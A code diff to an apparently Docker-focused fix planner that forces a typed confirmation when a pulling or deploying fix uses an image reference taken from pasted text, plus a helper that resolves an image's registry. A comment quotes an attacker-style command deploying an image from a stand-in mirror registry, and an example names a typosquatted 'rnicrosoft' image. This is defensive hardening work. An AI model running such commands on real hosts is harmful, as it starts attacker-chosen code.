@@ -274,6 +274,10 @@ export function planFix(topic: Topic, fixId: string, values: Readonly<Record<str
   if (real.value.argv.reduce((n, a) => n + a.length + 3, 0) > MAX_COMMAND_LINE)
     return err([problem('invalid', 'commandTooLong', `the filled command would be longer than Windows allows (${MAX_COMMAND_LINE} characters); use shorter values`, { max: MAX_COMMAND_LINE })]);
   const { command, argv, script, pasteCommand } = redacted.value;
+  // An image the paste named, in a fix that pulls, runs or deploys it, asks for the typed word whatever the fix's risk:
+  // a paste copied from a log or a public thread chose what the host would fetch and start, and one `y` ran it (found
+  // by an attacker helper: `docker service update --image contoso-mirror.example/iis:ltsc2019 web` from a pasted line).
+  const pastedImage = fix.readOnly === true ? undefined : placeholders.find((p) => p.from === 'entity' && p.kind === 'image-ref')?.value;
   return ok({
     topic: topic.id,
     fix: fix.id,
@@ -284,12 +288,26 @@ export function planFix(topic: Topic, fixId: string, values: Readonly<Record<str
     risk: fix.risk,
     admin: fix.admin,
     readOnly: fix.readOnly === true,
-    ...(fix.risk === 'high' ? { confirmWord: fix.id } : {}),
+    ...(fix.risk === 'high' || pastedImage !== undefined ? { confirmWord: fix.id } : {}),
+    ...(pastedImage !== undefined ? { pastedImage } : {}),
     ...(fix.windowsOnly === true ? { windowsOnly: true as const } : {}),
     ...(fix.anyEngine === true ? { anyEngine: true as const } : {}),
     placeholders,
     redacted: { command, argv, ...(script === undefined ? {} : { script }), ...(pasteCommand === undefined ? {} : { pasteCommand }) },
   });
+}
+
+/**
+ * The registry an image reference pulls from, as docker reads it: a first part with a dot or a colon, or `localhost`,
+ * names the registry; any other reference is Docker Hub's (`docker.io`).
+ * @example imageRegistry('contoso-mirror.example/iis:ltsc2019') // 'contoso-mirror.example'
+ * @example imageRegistry('rnicrosoft/windows-servercore:ltsc2019') // 'docker.io'
+ */
+export function imageRegistry(image: string): string {
+  const slash = image.indexOf('/');
+  if (slash < 0) return 'docker.io';
+  const first = image.slice(0, slash);
+  return /[.:]/.test(first) || first === 'localhost' ? first : 'docker.io';
 }
 
 /** A fix as the `fix TOPIC` listing shows it: what it does and which placeholders it takes. */
